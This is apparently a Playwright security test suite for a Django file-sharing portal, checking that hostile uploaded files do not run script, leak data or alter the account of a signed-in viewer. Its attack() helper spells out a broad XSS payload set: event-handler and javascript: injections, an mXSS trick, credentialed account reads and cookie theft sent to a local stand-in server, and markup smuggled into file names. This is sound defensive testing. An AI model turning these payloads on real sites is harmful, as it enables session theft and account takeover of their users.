"""Files that attack whoever looks at them, looked at in a browser that is signed in.

No script of theirs runs, nothing is sent anywhere, nothing changes: on their pages, in the frame of what was rendered
from them, and when somebody is led straight to that or to the bytes.
"""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from playwright.sync_api import Browser, BrowserContext, Dialog, Error, Page, Response, expect

from drive.files.paths import quoted
from drive.libraries import services
from drive.models import Library
from drive.storage import layout
from portal.models import User

from ..support.people import Person
from ..support.site import Site

pytestmark = pytest.mark.browser
MARK = "IT RAN"


class Elsewhere(ThreadingHTTPServer):
    """Another site. It notes who so much as connects."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), _Answer)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"

    def verify_request(self, request: Any, client_address: Any) -> bool:
        self.heard.append("connection")
        return True


class _Answer(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.heard.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Says nothing."""


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def library(owner: Person) -> Library:
    return services.create_library(owner.user, "Gifts")


@pytest.fixture
def place(library: Library) -> Path:
    return layout.find(library.pk)


def signed_in(browser: Browser, person: Person, **options: Any) -> BrowserContext:
    context = browser.new_context(**options)
    person.sign_in_at(context)
    return context


class Victim:
    """Somebody signed in, and what happened in their browser."""

    def __init__(self, browser: Browser, person: Person) -> None:
        self.happened: list[str] = []
        self.page: Page = signed_in(browser, person).new_page()
        self.page.on("console", lambda message: self._note(message.text))
        self.page.on("dialog", self._refuse)
        self.page.on("popup", lambda _: self._note(f"{MARK}: a window"))
        self.page.on("response", self._see)

    def _refuse(self, dialog: Dialog) -> None:
        self._note(f"{MARK}: a dialog")
        dialog.dismiss()

    def _see(self, response: Response) -> None:
        if "/account/" in response.url:
            self._note(f"{MARK}: the account was read")

    def _note(self, text: str) -> None:
        if MARK in text:
            self.happened.append(text)

    def look(self, address: str) -> None:
        """Open an address and wait until nothing is under way; click on what wants to be clicked."""
        try:
            self.page.goto(address)
        except Error as error:
            assert "Download is starting" in str(error)  # noqa: PT017
            return
        if self.page.get_by_text("This file is being rendered").count():
            expect(self.page.locator("iframe.rendered, .empty:not([hx-get])")).to_be_visible()
        for frame in self.page.frames:
            frame.wait_for_load_state()
            outside_editor = frame.locator(":not(.cm-line, .cm-line *)")  # which draws its lines anew at any moment
            for link in frame.get_by_text("click me").and_(outside_editor).filter(visible=True).all():
                link.click(force=True, no_wait_after=True, timeout=2000)
        self.page.wait_for_load_state()
        assert self.page.url.partition("#")[0] == address
        assert self.page.title() != MARK


def attack(elsewhere: str) -> str:
    """HTML that tries everything."""
    script = (
        f"console.log('{MARK}');document.title='{MARK}';fetch('{elsewhere}/script');"
        f"fetch('/account/',{{credentials:'include'}}).then(r=>r.text()).then(t=>fetch('{elsewhere}/stolen?'+t));"
        f"new Image().src='{elsewhere}/cookie?'+document.cookie;top.location='{elsewhere}/top';"
        "document.forms[0].submit()"
    )
    return f"""<form action="/account/" method="post"><input name="first_name" value="{MARK}"></form>
<script>{script}</script><script src="{elsewhere}/script.js"></script>
<img src=x onerror="{script}"><img src="{elsewhere}/picture" srcset="{elsewhere}/set 2x">
<svg onload="{script}"><script>{script}</script><image href="{elsewhere}/svg"/></svg>
<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></mglyph></math>
<iframe src="{elsewhere}/frame"></iframe><iframe srcdoc="<script>{script.replace('"', "")}</script>"></iframe>
<iframe src="javascript:{script}"></iframe><object data="{elsewhere}/object"></object><embed src="{elsewhere}/embed">
<meta http-equiv="refresh" content="0;url={elsewhere}/refresh"><base href="{elsewhere}/base/">
<link rel="stylesheet" href="{elsewhere}/style"><link rel="preconnect" href="{elsewhere}">
<link rel="prefetch" href="{elsewhere}/prefetch"><link rel="icon" href="{elsewhere}/icon">
<style>@import url({elsewhere}/import); body {{ background: url({elsewhere}/ground) }}</style>
<p style="background: url({elsewhere}/inline)">x</p><video src="{elsewhere}/video" poster="{elsewhere}/poster"></video>
<details open ontoggle="{script}"><summary>x</summary></details><input autofocus onfocus="{script}">
<a href="javascript:{script}">click me</a>
"""


def files(elsewhere: str) -> dict[str, str]:
    """Name and content of each."""
    html = attack(elsewhere)
    outputs = [
        {"output_type": "display_data", "metadata": {}, "data": {kind: html}}
        for kind in (
            "text/html",
            "image/svg+xml",
            "application/javascript",
            "text/markdown",
            "text/latex",
            "text/plain",
        )
    ]
    outputs.append({"output_type": "stream", "name": "stdout", "text": html})
    outputs.append({"output_type": "error", "ename": html, "evalue": html, "traceback": [html]})
    code = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": html, "outputs": outputs, "id": "a"}
    text = {"cell_type": "markdown", "metadata": {}, "source": html, "id": "b"}
    raw = {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": html, "id": "c"}
    notebook = {"cells": [code, text, raw], "metadata": {"title": html}, "nbformat": 4, "nbformat_minor": 5}
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>{html}</foreignObject></svg>'
    svg += f"<script>console.log('{MARK}')</script>"
    name = f"<img src=x onerror=console.log('{MARK}')>"
    return {
        "a.ipynb": json.dumps(notebook),
        "a.svg": svg,
        "clean.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>console.log("{MARK}")</script></svg>',
        "a.html": html,
        "a.md": html + f"\n[click me](javascript:console.log('{MARK}'))\n![x]({elsewhere}/markdown)",
        "a.csv": "name,value\n" + html.replace("\n", " ").replace(",", "\n"),
        "sniffed": html,
        "a.txt": html,
        "a.png": html,
        "a.pdf": "%PDF-1.4\n" + html,
        "a.py": html,
        "a.xml": f'<?xml version="1.0"?><?xml-stylesheet href="{elsewhere}/xsl"?>{html}',
        f"{name}.txt": "x",
        f"{name}.ipynb": json.dumps(notebook),
        f"\"'>{name}.md": "x",
    }


@pytest.mark.parametrize("number", range(len(files(""))), ids=[name[:7] for name in files("")])
def test_it_lets_no_file_do_anything(
    browser: Browser, owner: Person, library: Library, place: Path, elsewhere: Elsewhere, number: int
) -> None:
    name, content = list(files(elsewhere.address).items())[number]
    (place / name).write_text(content)
    before = User.objects.filter(pk=owner.user.pk).values().get()
    victim = Victim(browser, owner)
    folder = f"{settings.PORTAL_URL}/drive/{library.pk}/"
    victim.look(folder)
    page = folder + quoted(name)
    for show in ("", "?show=rendered", "?show=raw", "?show=edit", "?show=versions"):
        if show == "?show=rendered" and not name.endswith(".ipynb"):
            continue
        victim.look(page + show)
    assert victim.happened == []
    assert elsewhere.heard == []
    assert User.objects.filter(pk=owner.user.pk).values().get() == before
    assert [path.name for path in place.iterdir()] == [name]
    assert (place / name).read_text() == content


def test_it_would_notice(browser: Browser, owner: Person, elsewhere: Elsewhere) -> None:
    """The same attack, where nothing holds it: what the tests above look for does happen."""
    victim = Victim(browser, owner)
    victim.page.route(
        "**/unprotected", lambda route: route.fulfill(body=attack(elsewhere.address), content_type="text/html")
    )
    victim.page.goto(f"{settings.PORTAL_URL}/unprotected", wait_until="commit")
    with victim.page.expect_event("console", lambda message: MARK in message.text):
        victim.page.goto(f"{settings.PORTAL_URL}/unprotected", wait_until="commit")
    assert victim.happened
    assert "connection" in elsewhere.heard


@pytest.fixture
def alone(site: Site) -> Iterator[None]:
    """While nobody can edit together, the text is sent as a form."""
    with site.without("rooms"):
        yield


def test_it_edits_with_a_key_and_loses_nothing(
    alone: None, browser: Browser, owner: Person, library: Library, place: Path
) -> None:
    (place / "a.md").write_text("# One\n")
    page = signed_in(browser, owner).new_page()
    address = f"{settings.PORTAL_URL}/drive/{library.pk}/a.md"
    page.goto(address)
    page.get_by_role("link", name="Edit", exact=True).click()
    text = page.get_by_label("Text of a.md")
    expect(page.locator(".code-editor")).to_be_visible()  # in the place of the field, which playwright would hold on to
    text.fill("# Two\n")
    expect(page.get_by_label("Preview").get_by_role("heading", name="Two")).to_be_visible()
    text.press("Control+s")
    expect(page.get_by_role("status")).to_contain_text("Saved.")
    assert (place / "a.md").read_text() == "# Two\n"

    # Typed, and the page goes away: it is there again.
    text.fill("# Three\n")
    page.once("dialog", lambda dialog: dialog.accept())
    page.reload()
    expect(text).to_have_text("# Three")
    expect(page.get_by_text("your unsaved text")).to_be_visible()

    # Somebody else was faster: both are shown, and what I typed is what I save.
    (place / "a.md").write_text("# Theirs\n")
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.get_by_role("table", name="Changed lines")).to_contain_text("# Theirs")
    expect(text).to_have_text("# Three")
    page.get_by_role("button", name="Save mine").click()
    expect(page.get_by_role("heading", name="Three")).to_be_visible()
    assert (place / "a.md").read_text() == "# Three\n"


def test_it_edits_and_shows_notebooks_without_scripts(
    browser: Browser, owner: Person, library: Library, place: Path
) -> None:
    (place / "a.txt").write_text("one")
    notebook = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    (place / "a.ipynb").write_text(json.dumps(notebook))
    page = signed_in(browser, owner, java_script_enabled=False).new_page()
    page.goto(f"{settings.PORTAL_URL}/drive/{library.pk}/a.txt")
    page.get_by_role("link", name="Edit", exact=True).click()
    page.get_by_label("Text of a.txt").fill("two")
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.locator("pre.text")).to_have_text("two")
    page.goto(f"{settings.PORTAL_URL}/drive/{library.pk}/a.ipynb")
    while page.get_by_role("link", name="Reload").count():
        page.get_by_role("link", name="Reload").click()
    expect(page.locator("iframe.rendered")).to_be_visible()
